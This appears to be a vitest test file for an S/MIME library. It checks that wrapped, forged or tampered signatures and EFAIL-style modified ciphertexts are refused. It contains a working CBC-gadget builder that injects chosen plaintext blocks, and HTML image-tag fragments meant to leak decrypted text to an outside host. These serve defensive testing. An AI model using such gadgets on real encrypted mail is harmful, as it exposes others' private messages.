import { afterAll, afterEach, describe, expect, test } from "vitest";
import { peerCertificate } from "../../src/pki/certificate.ts";
import * as der from "../../src/pki/der.ts";
import { contentType } from "../../src/smime/algorithms.ts";
import { envelopedData } from "../../src/smime/envelope-write.ts";
import { Keyring } from "../../src/smime/keyring.ts";
import { algorithmsOf, type Profile } from "../../src/smime/profile.ts";
import { read } from "../../src/smime/read.ts";
import { opaqueSignedData } from "../../src/smime/signed-write.ts";
import type { TestPerson } from "../support/pki.ts";
import { attribute, digestAttribute, digestOf, signedDataOf, signerInfo } from "../support/signed-data.ts";
import { bytesOf, entityTo, failureOf, flipped, Pieces, sealWorld } from "../support/smime.ts";

// What somebody may put together from signatures and ciphertexts that others made: nothing is accepted as Alice's but the
// whole of what Alice signed, and nothing decrypted comes out under another's name.

const world = sealWorld({ encryptionKey: "ec" });
const { alice, bob, mallory, domain } = world;
afterAll(() => world[Symbol.dispose]());
afterEach(() => expect(world.strayFiles()).toEqual([]));

const entity = entityTo(bob.identity, "what Alice signed\r\n", "text/plain");

const enveloped = (plain: Uint8Array, profile: Profile = "peer", to = bob) =>
  bytesOf(envelopedData(new Pieces(plain), [peerCertificate(to.encryption.certificate)], algorithmsOf(profile)));

const reading = (bytes: Uint8Array, keys = [bob.encryption]) =>
  read(new Pieces(bytes), {
    keys: new Keyring(keys),
    candidates: [],
    directory: world.directory,
    maxBytes: 10_000_000,
  });

/** A multipart/signed entity by one of them. */
async function clear(by: TestPerson, signed: Uint8Array): Promise<Buffer> {
  const sealed = world.seal(new Pieces(signed), { signer: by.auth, shape: "detached" });
  await using found = await world.open(sealed, {
    expectedSigner: by.identity,
    addressees: [bob.identity, mallory.identity],
    keep: "entity",
  });
  if (!("bytes" in found.content)) throw new Error("not in memory");
  return found.content.bytes;
}

/** How Bob, who expects Alice, takes a plaintext that somebody encrypted for him. */
async function taken(plain: Uint8Array, changes: Parameters<typeof world.open>[1] = {}): Promise<string> {
  try {
    await using opened = await world.open(new Pieces(await enveloped(plain)), changes);
    return `${opened.signer.identities[0]?.identity}: ${"bytes" in opened.content ? opened.content.bytes : "a file"}`;
  } catch {
    return (await failureOf(world.open(new Pieces(await enveloped(plain)), changes))).code;
  }
}

/** What `read` finds: protection, layers with their signers, content. */
async function found(bytes: Uint8Array, keys = [bob.encryption]) {
  await using one = await reading(bytes, keys);
  const names = new Map(
    [alice, mallory].map(({ auth, identity }) => [auth.certificate.sha256, identity.split("@")[0]]),
  );
  const layers = one.layers.map((layer) =>
    layer.kind === "signed"
      ? `signed by ${layer.signatures.map(({ certificate }) => names.get(certificate.sha256)).join(" and ") || "nobody"}`
      : layer.kind,
  );
  const content = one.content !== undefined && "bytes" in one.content ? one.content.bytes : Buffer.alloc(0);
  return { protection: one.protection, layers, content };
}

const accepted = "alice@example.test: what Alice signed\r\n";

const signedData = (content: Uint8Array, infos: Buffer[], certificates: Uint8Array[] = [alice.auth.certificate.der]) =>
  signedDataOf(content, infos, [...certificates, domain.issuing.certificate.der]);

describe("a signature moved, or something put beside it", () => {
  test("as it is, it is accepted, whatever stands in the preamble and behind the end: those are not kept", async () => {
    const mail = (await clear(alice, entity)).toString();
    const [head = "", ...rest] = mail.split("\r\n\r\n--");
    const preamble = `${head}\r\n\r\nThis is signed.\r\n--${rest.join("\r\n\r\n--")}`;
    for (const text of [mail, preamble, `${mail}behind the end\r\n`])
      expect(await taken(Buffer.from(text))).toBe(accepted);
  });

  test("in another's multipart/signed it is the other's", async () => {
    const wrapped = await clear(
      mallory,
      Buffer.concat([Buffer.from("To: bob@example.test\r\n"), await clear(alice, entity)]),
    );
    expect(await taken(wrapped)).toBe("seal-wrong-signer");
    expect(await taken(wrapped, { expectedSigner: mallory.identity })).toMatch(/^mallory@example.test: --sixtalk-/);
    expect((await found(wrapped)).layers).toEqual(["signed by mallory", "signed by alice"]);
  });

  test("a second Content-Type or transfer encoding, before or behind: not taken for signed", async () => {
    const mail = await clear(alice, entity);
    const end = mail.indexOf("\r\n\r\n") + 2;
    for (const field of ["Content-Type: text/html\r\n", "Content-Type: multipart/mixed; boundary=x\r\n"]) {
      const before = Buffer.concat([Buffer.from(field), mail]);
      const behind = Buffer.concat([mail.subarray(0, end), Buffer.from(field), mail.subarray(end)]);
      for (const bytes of [before, behind]) {
        expect(await taken(bytes)).toBe("seal-unreadable");
        expect(await found(await enveloped(bytes))).toEqual({
          protection: "encrypted",
          layers: ["encrypted"],
          content: bytes,
        });
      }
    }
    const twice = "Content-Transfer-Encoding: binary\r\nContent-Transfer-Encoding: base64\r\n";
    expect(await taken(Buffer.concat([Buffer.from(twice), mail]))).toBe("seal-unreadable");
  });

  test("a field that is not MIME's outside the signature: refused where the entity is kept", async () => {
    const mail = Buffer.concat([Buffer.from("Subject: not Alice's\r\n"), await clear(alice, entity)]);
    expect(await taken(mail, { keep: "entity" })).toBe("seal-unreadable");
  });

  test("a part before, between and behind, and around", async () => {
    const mail = (await clear(alice, entity)).toString();
    const boundary = /boundary="([^"]+)"/.exec(mail)?.[1] ?? "";
    const delimiter = `--${boundary}\r\n`;
    const part = `${delimiter}Content-Type: text/html\r\n\r\n<b>not Alice's</b>\r\n`;
    const first = mail.indexOf(delimiter);
    const second = mail.indexOf(delimiter, first + 1);
    const end = mail.indexOf(`--${boundary}--`);
    for (const at of [first, second, end]) {
      expect(await taken(Buffer.from(mail.slice(0, at) + part + mail.slice(at)))).toBe("seal-unreadable");
    }
    const mixed = `Content-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\n\r\nnot Alice's\r\n--m\r\n${mail}\r\n--m--\r\n`;
    expect(await taken(Buffer.from(mixed))).toBe("seal-unreadable");
    expect((await found(await enveloped(Buffer.from(mixed)))).layers).toEqual(["encrypted"]);
  });

  test("an opaque signature with the other content beside it is no detached one", async () => {
    const opaque = await bytesOf(opaqueSignedData(new Pieces(entity), alice.auth, domain.now));
    const mail = [
      'Content-Type: multipart/signed; protocol="application/pkcs7-signature"; boundary=b',
      "",
      "--b",
      "To: bob@example.test",
      "",
      "not Alice's",
      "--b",
      "Content-Type: application/pkcs7-signature",
      "Content-Transfer-Encoding: base64",
      "",
      opaque.toString("base64"),
      "--b--",
      "",
    ].join("\r\n");
    expect(await taken(Buffer.from(mail))).toBe("seal-unreadable");
  });

  test("octets behind what is signed, and a signature over the beginning of them alone", async () => {
    const opaque = await bytesOf(opaqueSignedData(new Pieces(entity), alice.auth, domain.now));
    expect(await taken(opaque)).toBe(accepted);
    expect(await taken(Buffer.concat([opaque, Buffer.from("more")]))).toBe("seal-unreadable");
    const longer = Buffer.concat([entity, Buffer.from("more")]);
    expect(await taken(signedData(longer, [signerInfo(alice.auth, entity)]))).toBe("seal-unreadable");
    expect(await taken(signedData(entity, [signerInfo(alice.auth, entity)]))).toBe(accepted);
  });
});

describe("several signers", () => {
  const both = [alice.auth, mallory.auth].map(({ certificate }) => certificate.der);

  test("the expected one counts, wherever he stands", async () => {
    const infos = [signerInfo(mallory.auth, entity), signerInfo(alice.auth, entity)];
    for (const order of [infos, infos.toReversed()])
      expect(await taken(signedData(entity, order, both))).toBe(accepted);
  });

  test("his over something else does not count beside another's that holds", async () => {
    const other = signerInfo(alice.auth, Buffer.from("To: bob@example.test\r\n\r\nsomething else"));
    const infos = [other, signerInfo(mallory.auth, entity)];
    for (const order of [infos, infos.toReversed()])
      expect(await taken(signedData(entity, order, both))).toBe("seal-wrong-signer");
    expect((await found(signedData(entity, infos, both))).layers).toEqual(["signed by mallory"]);
  });

  test("another's key under his name does not count", async () => {
    const forged = signerInfo({ ...alice.auth, privateKey: mallory.auth.privateKey }, entity);
    expect(await taken(signedData(entity, [forged], both))).toBe("seal-unreadable");
  });

  test("16 signers and 64 certificates are read, one more of either is not", async () => {
    const info = signerInfo(alice.auth, entity);
    const certificate = alice.auth.certificate.der;
    // The CA's certificate is one more.
    const many = (signers: number, certificates: number) =>
      signedData(entity, Array<Buffer>(signers).fill(info), Array<Uint8Array>(certificates).fill(certificate));
    expect(await taken(many(16, 63))).toBe(accepted);
    for (const bytes of [many(17, 1), many(1, 64)]) {
      expect(await taken(bytes)).toBe("seal-unreadable");
      expect((await failureOf(reading(bytes))).code).toBe("seal-malformed");
    }
  });

  const [type, digest] = [attribute("1.2.840.113549.1.9.3", der.oid(contentType.data)), digestAttribute(entity)];
  const time = attribute("1.2.840.113549.1.9.5", der.time(domain.now));
  const wrong = digestAttribute(Buffer.from("something else"));
  test.each<[string, Buffer[]]>([
    ["the digest", [type, digest, digest]],
    ["the digest, a wrong one first", [type, wrong, digest]],
    ["the digest, a wrong one last", [type, digest, wrong]],
    ["the content type", [type, type, digest]],
    ["the signing time", [type, digest, time, time]],
    ["values of the digest", [type, attribute("1.2.840.113549.1.9.4", digestOf(entity), digestOf(entity))]],
    [
      "values of the signing time",
      [type, digest, attribute("1.2.840.113549.1.9.5", der.time(domain.now), der.time(domain.now))],
    ],
  ])("twice in the signed attributes: %s", async (_, attributes) => {
    const bytes = signedData(entity, [signerInfo(alice.auth, entity, Buffer.concat(attributes))]);
    expect(await taken(bytes)).toBe("seal-unreadable");
    expect((await failureOf(reading(bytes))).code).toBe("seal-malformed");
  });
});

describe("EFAIL: a ciphertext of others changed, or wrapped", () => {
  const secret = entityTo(bob.identity, `the secret ${"is long ".repeat(20)}\r\n`, "text/plain");
  const victim = () => bytesOf(world.seal(new Pieces(secret), { profile: "foreign" }));

  test("blocks put before it that make it HTML: not opened, and to a reader nobody's, with no authentication", async () => {
    const bytes = await victim();
    const gadget = cbcGadget(bytes, Buffer.from("Content-Type: ap"), [
      "Content-Type: te",
      "xt/html\r\n\r\n<img ",
      " src='http://e/?",
    ]);
    expect((await failureOf(world.open(new Pieces(gadget)))).code).toBe("seal-unreadable");
    await using one = await reading(gadget);
    expect(one.protection).toBe("encrypted");
    expect(one.layers).toEqual([{ kind: "encrypted", cipher: "aes-256-cbc", authenticated: false }]);
    if (one.content === undefined || !("bytes" in one.content)) throw new Error("not in memory");
    // The attack is real: all three chosen blocks stand there, and the plaintext behind them.
    const text = one.content.bytes.toString("latin1");
    for (const chosen of ["Content-Type: te", "xt/html\r\n\r\n<img ", " src='http://e/?", "the secret is long"])
      expect(text).toContain(chosen);
  });

  test("an encrypted part beside plaintext ones: not decrypted, also where somebody signed it all", async () => {
    const part = `Content-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: base64\r\n\r\n${(await victim()).toString("base64")}`;
    const html = "Content-Type: text/html\r\n\r\n<img src='http://e/?";
    const mixed = Buffer.from(
      `Content-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\n${html}\r\n--m\r\n${part}\r\n--m\r\n\r\n'>\r\n--m--\r\n`,
    );
    expect((await failureOf(reading(mixed))).code).toBe("seal-malformed");
    const one = await found(await bytesOf(opaqueSignedData(new Pieces(mixed), mallory.auth, domain.now)));
    expect(one).toEqual({ protection: "signed", layers: ["signed by mallory"], content: mixed });
  });

  test("signed and sealed by another around it: opened once, to the ciphertext; read to the end, nobody's", async () => {
    const inner = await victim();
    const head = "To: bob@example.test\r\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data\r\n\r\n";
    const wrapped = Buffer.concat([Buffer.from(head), inner]);
    const sealed = await bytesOf(world.seal(new Pieces(wrapped), { signer: mallory.auth }));
    await using opened = await world.open(new Pieces(sealed), { expectedSigner: mallory.identity });
    expect(opened.content).toEqual({ bytes: inner });

    const unsigned = Buffer.concat([Buffer.from(head), await enveloped(secret, "foreign")]);
    const around = await found(await bytesOf(world.seal(new Pieces(unsigned), { signer: mallory.auth })));
    expect(around).toEqual({
      protection: "encrypted",
      layers: ["encrypted", "signed by mallory", "encrypted"],
      content: secret,
    });
    expect((await found(sealed)).layers).toEqual(["encrypted", "signed by mallory", "encrypted", "signed by alice"]);
  });

  test("a bit flipped in any block of the ciphertext: what Alice signed, or one and the same failure", async () => {
    const bytes = await victim();
    for (let at = bytes.length - 1; at > 600; at -= 7) {
      const outcome = await world.open(new Pieces(flipped(bytes, at, at % 8))).then(
        async (opened) => {
          await using one = opened;
          return "bytes" in one.content ? one.content.bytes.toString() : "";
        },
        (thrown: { code?: string }) => thrown.code,
      );
      expect([secret.subarray(secret.indexOf("\r\n\r\n") + 4).toString(), "seal-unreadable"]).toContain(outcome);
    }
  });
});

/**
 * The CBC gadget: of a known first block, chosen ones of 16 octets are made and put before the ciphertext; between them stand blocks of
 * noise. Lengths are made right.
 */
function cbcGadget(sealed: Buffer, known: Buffer, chosen: string[]): Buffer {
  const members = (bytes: Uint8Array) => {
    const cursor = new der.DerCursor(bytes);
    const all: der.DerElement[] = [];
    while (!cursor.done) all.push(cursor.next());
    return all;
  };
  const [type, explicit] = members(der.readDer(sealed).content);
  const [version, infos, encrypted] = members(members(explicit?.content ?? sealed)[0]?.content ?? sealed);
  const [data, algorithm, ciphertext] = members(encrypted?.content ?? sealed);
  const [cipher, iv] = members(algorithm?.content ?? sealed);
  if (!type || !version || !infos || !data || !ciphertext || !cipher || !iv) throw new Error("not such a seal");
  const first = ciphertext.content.subarray(0, 16);
  const making = (text: string) =>
    Buffer.from(text).map((octet, at) => octet ^ (known[at] ?? 0) ^ (iv.content[at] ?? 0));
  const [start = "", ...others] = chosen;
  const blocks = [first, ...others.flatMap((text) => [making(text), first]), iv.content, ciphertext.content];
  const body = der.sequence(
    version.bytes,
    infos.bytes,
    der.sequence(
      data.bytes,
      der.sequence(cipher.bytes, der.octetString(making(start))),
      der.implicitPrimitive(0, Buffer.concat(blocks)),
    ),
  );
  return der.sequence(type.bytes, der.explicit(0, body));
}
